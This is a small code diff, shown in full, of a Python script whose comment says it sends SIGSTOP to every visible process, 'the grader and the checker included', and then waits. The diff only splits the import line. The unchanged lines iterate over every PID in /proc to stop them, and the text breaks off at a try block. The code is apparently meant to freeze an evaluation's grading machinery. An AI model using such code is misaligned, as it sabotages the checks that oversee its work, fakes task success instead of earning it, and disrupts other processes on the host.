@@ -1,5 +1,7 @@
 # SIGSTOP to every process it can see, the grader and the checker included (then it waits).
-import os, signal
+import os
+import signal
+
 for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []:
     if pid != os.getpid():
         try:
